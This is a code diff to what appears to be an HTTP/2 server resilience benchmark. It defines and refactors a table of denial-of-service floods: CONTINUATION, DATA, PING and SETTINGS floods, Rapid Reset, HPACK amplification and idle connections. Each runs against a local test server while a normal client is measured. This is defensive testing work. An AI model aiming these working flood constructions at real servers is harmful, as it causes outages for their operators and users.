@@ -185,17 +185,21 @@ class GoawayWatch {
 const CODES = Object.fromEntries(Object.entries(ErrorCode).map(([k, v]) => [v, k])) as Record<number, string>;
 
 /**
- * One connection: preface, `first`, then chunks from `next` until maxBytes, ATTACK_MS, or the
+ * One connection: preface, `first`, then chunks from `next` (maxBytes of them) until ATTACK_MS, or the
  * server closed the connection. With read=false the attacker never reads.
  */
-async function flood(port: number, first: Buffer, next: (i: number) => Buffer, maxBytes: number, read = true): Promise<AttackResult> {
-  // Everything is built before the first octet goes out.
+function flood(first: Buffer, next: (i: number) => Buffer, maxBytes: number, read = true): (port: number) => Promise<AttackResult> {
+  // Everything is built before the server starts: the attack only writes.
   const chunks: Buffer[] = [];
   for (let n = 0, i = 0; n < maxBytes; i++) {
     const c = next(i);
     chunks.push(c);
     n += c.length;
   }
+  return (port) => send(port, first, chunks, read);
+}
+
+async function send(port: number, first: Buffer, chunks: Buffer[], read: boolean): Promise<AttackResult> {
   const sock: Socket = connect(port, "127.0.0.1");
   sock.setNoDelay(true);
   const watch = new GoawayWatch();
@@ -305,56 +309,56 @@ async function idleConnections(port: number, count: number): Promise<AttackResul
   return { sent: count * hello.length, outcome: `${open.toLocaleString("en-US")} of ${count.toLocaleString("en-US")} open after 3 s${failed ? `, ${failed} refused` : ""}`, connections: count };
 }
 
-type Attack = (port: number, maxBytes: number, idleCount: number) => Promise<AttackResult>;
+/** Builds what it sends, then returns what sends it. */
+type Attack = (maxBytes: number, idleCount: number) => (port: number) => Promise<AttackResult>;
 
 const ATTACKS: Record<string, { title: string; run: Attack }> = {
   "continuation-empty": {
     title: "zero-length CONTINUATION after HEADERS without END_HEADERS",
-    run: (port, max) => flood(port, headers(1, Flag.END_STREAM, REQUEST_BLOCK.subarray(0, 3)), repeat(frame(FrameType.CONTINUATION, 0, 1)), max),
+    run: (max) => flood(headers(1, Flag.END_STREAM, REQUEST_BLOCK.subarray(0, 3)), repeat(frame(FrameType.CONTINUATION, 0, 1)), max),
   },
   "continuation-small": {
     title: "one-octet CONTINUATION frames",
-    run: (port, max) => flood(port, headers(1, Flag.END_STREAM, REQUEST_BLOCK.subarray(0, 3)), repeat(frame(FrameType.CONTINUATION, 0, 1, Buffer.from([0x80 | 2]))), max),
+    run: (max) => flood(headers(1, Flag.END_STREAM, REQUEST_BLOCK.subarray(0, 3)), repeat(frame(FrameType.CONTINUATION, 0, 1, Buffer.from([0x80 | 2]))), max),
   },
   "data-empty": {
     title: "empty DATA frames",
-    run: (port, max) => flood(port, headers(1, Flag.END_HEADERS), repeat(frame(FrameType.DATA, 0, 1)), max),
+    run: (max) => flood(headers(1, Flag.END_HEADERS), repeat(frame(FrameType.DATA, 0, 1)), max),
   },
   "data-small": {
     title: "one-octet DATA frames",
-    run: (port, max) => flood(port, headers(1, Flag.END_HEADERS), repeat(frame(FrameType.DATA, 0, 1, Buffer.from([0]))), max),
+    run: (max) => flood(headers(1, Flag.END_HEADERS), repeat(frame(FrameType.DATA, 0, 1, Buffer.from([0]))), max),
   },
   settings: {
     title: "SETTINGS frames",
-    run: (port, max) => flood(port, Buffer.alloc(0), repeat(settingsFrame([[Setting.ENABLE_PUSH, 0]])), max),
+    run: (max) => flood(Buffer.alloc(0), repeat(settingsFrame([[Setting.ENABLE_PUSH, 0]])), max),
   },
   ping: {
     title: "PING frames",
-    run: (port, max) => flood(port, Buffer.alloc(0), repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8))), max),
+    run: (max) => flood(Buffer.alloc(0), repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8))), max),
   },
   "ping-unread": {
     title: "PING frames, acknowledgements never read",
-    run: (port, max) => flood(port, Buffer.alloc(0), repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8))), max, false),
+    run: (max) => flood(Buffer.alloc(0), repeat(frame(FrameType.PING, 0, 0, Buffer.alloc(8))), max, false),
   },
   "rapid-reset": {
     title: "HEADERS then RST_STREAM, stream after stream (Rapid Reset)",
-    run: (port, max) => flood(port, Buffer.alloc(0), perStream((sid) => Buffer.concat([headers(sid, Flag.END_HEADERS), rstStreamFrame(sid, ErrorCode.CANCEL)])), max),
+    run: (max) => flood(Buffer.alloc(0), perStream((sid) => Buffer.concat([headers(sid, Flag.END_HEADERS), rstStreamFrame(sid, ErrorCode.CANCEL)])), max),
   },
   priority: {
     title: "PRIORITY frames",
-    run: (port, max) => flood(port, Buffer.alloc(0), perStream((sid) => frame(FrameType.PRIORITY, 0, sid, Buffer.from([0, 0, 0, 0, 16]))), max),
+    run: (max) => flood(Buffer.alloc(0), perStream((sid) => frame(FrameType.PRIORITY, 0, sid, Buffer.from([0, 0, 0, 0, 16]))), max),
   },
   "window-update": {
     title: "WINDOW_UPDATE frames",
-    run: (port, max) => flood(port, Buffer.alloc(0), repeat(windowUpdateFrame(0, 1)), max),
+    run: (max) => flood(Buffer.alloc(0), repeat(windowUpdateFrame(0, 1)), max),
   },
   "hpack-amplification": {
     title: "HPACK: 3,000 references to a 4,000-octet table entry per header block",
-    run: (port, max) => {
+    run: (max) => {
       const insert = Buffer.concat([Buffer.from([0x40, 5]), Buffer.from("x-big"), hpackLength(4000), Buffer.alloc(4000, 0x61)]);
       const refs = Buffer.alloc(3000, 0x80 | 62);
       return flood(
-        port,
         Buffer.alloc(0),
         perStream((sid) => headers(sid, Flag.END_HEADERS | Flag.END_STREAM, Buffer.concat(sid === 1 ? [REQUEST_BLOCK, insert, refs] : [REQUEST_BLOCK, refs]))),
         max,
@@ -363,7 +367,7 @@ const ATTACKS: Record<string, { title: string; run: Attack }> = {
   },
   "idle-connections": {
     title: "idle connections",
-    run: (port, _max, count) => idleConnections(port, count),
+    run: (_max, count) => (port) => idleConnections(port, count),
   },
 };
 
@@ -381,6 +385,7 @@ export function floodTable(rows: FloodRow[]): string[] {
 async function runAttack(name: string, maxBytes: number, idleCount: number, log: (s: string) => void): Promise<FloodRow> {
   const a = ATTACKS[name];
   if (!a) throw new Error(`unknown attack ${name}; known: ${Object.keys(ATTACKS).join(", ")}`);
+  const attack = a.run(maxBytes, idleCount);
   const srv: ServerProc = await startServer(["--mode", "authz", "--keys", String(KEYS)], { nodeFlags: chartNodeOptions(), timeoutMs: 120_000 });
   try {
     const good = new GoodClient(srv.port);
@@ -391,7 +396,7 @@ async function runAttack(name: string, maxBytes: number, idleCount: number, log:
     const peak = rssPeak(srv.pid);
     good.start();
     const t0 = performance.now();
-    const res = await a.run(srv.port, maxBytes, idleCount);
+    const res = await attack(srv.port);
     const seconds = (performance.now() - t0) / 1000;
     // The well-behaved client is measured for at least 3 s from the attack's start.
     await new Promise((r) => setTimeout(r, Math.max(0, 3000 - seconds * 1000)));
